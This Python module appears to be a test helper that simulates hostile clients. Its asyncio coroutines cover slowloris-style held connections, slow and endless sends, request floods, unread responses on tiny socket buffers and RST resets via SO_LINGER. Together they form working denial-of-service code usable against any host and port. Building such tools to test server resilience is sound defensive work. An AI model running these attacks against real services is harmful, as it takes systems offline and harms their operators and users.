"""What a hostile client does with connections: coroutines that go on until they are cancelled.

What they send, and where, is their caller's. ``target.begun`` is set once the attack is all there.
"""

import asyncio
import contextlib
import re
import resource
import socket
import struct
from collections.abc import Callable, Coroutine
from dataclasses import dataclass, field
from random import Random
from typing import Any

AGAIN_SECONDS = 5.0
"""Until a connection that was ended is opened again."""

Attack = Callable[["Target"], Coroutine[Any, Any, None]]
Visit = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]


@dataclass
class Target:
    """Who is attacked, and how far that got. ``chance`` makes an attack the same in every run."""

    host: str
    port: int
    chance: Random = field(default_factory=lambda: Random(0))
    begun: asyncio.Event = field(default_factory=asyncio.Event)
    connections: int = 0
    sent: int = 0

    async def visits(self, visit: "Visit", pause: float = 0.0, at_once: int = 1) -> None:
        """So many clients, each visiting over and over on a connection of its own; that it is refused is no error."""
        async with asyncio.TaskGroup() as clients:
            for _ in range(at_once):
                clients.create_task(self._over_and_over(visit, pause))

    async def _over_and_over(self, visit: "Visit", pause: float) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(self.host, self.port)
                self.connections += 1
                try:
                    await visit(reader, writer)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(pause)

    def write(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        self.sent += len(data)


def many_files(most: int = 8192) -> None:
    """Let this process have so many sockets, if it may."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, hard), hard))


def held(data: bytes, count: int = 2000) -> Attack:
    """``count`` connections that say ``data`` and nothing more; whoever is thrown out comes back."""

    async def attack(target: Target) -> None:
        async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            target.write(writer, data)
            if target.connections >= count:
                target.begun.set()
            while await reader.read(65536):
                pass

        await target.visits(visit, AGAIN_SECONDS, count)

    return attack


def endless(start: bytes, more: bytes, connections: int = 4, pause: float = 0.0) -> Attack:
    """``start``, then ``more`` as long as it is taken, on ``connections`` opened again ``pause`` seconds after."""

    async def attack(target: Target) -> None:
        async def visit(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            target.write(writer, start)
            for _ in range(1000):
                target.write(writer, more)
                await writer.drain()
                target.begun.set()

        await target.visits(visit, pause, connections)

    return attack


def slow(start: bytes, more: bytes, count: int = 500, every: float = 1.0) -> Attack:
    """``start``, then ``more`` every so many seconds on ``count`` connections."""

    async def attack(target: Target) -> None:
        async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            target.write(writer, start)
            if target.connections >= count:
                target.begun.set()
            while not reader.at_eof():
                target.write(writer, more)
                await writer.drain()
                await asyncio.sleep(every)

        await target.visits(visit, every, count)

    return attack


def asking(request: Callable[[Random], bytes], connections: int = 8, pause: float = 0.1) -> Attack:
    """Request after request, a connection for each, read to its end or for a second: at most 80 in a second."""

    async def attack(target: Target) -> None:
        async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            async with asyncio.timeout(1):
                target.write(writer, request(target.chance))
                await writer.drain()
                target.begun.set()
                while await reader.read(65536):
                    pass

        await target.visits(visit, pause, connections)

    return attack


def hammering(request: bytes, count: int, every: float = 0.0) -> Attack:
    """That request on ``count`` connections, again on each once it is answered, ``every`` seconds later at the soonest.

    Who is thrown out comes back.
    """

    async def attack(target: Target) -> None:
        async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            while True:
                target.write(writer, request)
                pause = asyncio.create_task(asyncio.sleep(every))
                if target.connections >= count:
                    target.begun.set()
                head = await reader.readuntil(b"\r\n\r\n")
                length = re.search(rb"content-length: *([0-9]+)", head.lower())
                await reader.readexactly(int(length[1]) if length else 0)
                await pause

        await target.visits(visit, 0.1, count)

    return attack


def unread(request: bytes, count: int = 300) -> Attack:
    """Requests whose answers nobody reads, on sockets that take hardly any."""

    async def attack(target: Target) -> None:
        loop = asyncio.get_running_loop()
        with contextlib.ExitStack() as sockets:
            for _ in range(count):
                one = sockets.enter_context(socket.socket())
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
                one.setblocking(False)
                with contextlib.suppress(OSError):
                    await loop.sock_connect(one, (target.host, target.port))
                    await loop.sock_sendall(one, request)
                    target.connections, target.sent = target.connections + 1, target.sent + len(request)
            target.begun.set()
            await asyncio.Event().wait()

    return attack


def reset(data: bytes, connections: int = 8, pause: float = 0.02) -> Attack:
    """Connections that are reset as soon as ``data`` is sent."""

    async def attack(target: Target) -> None:
        async def visit(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            at_once = struct.pack("ii", 1, 0)  # SO_LINGER: closing sends RST (socket(7))
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
            target.write(writer, data)
            target.begun.set()

        await target.visits(visit, pause, connections)

    return attack
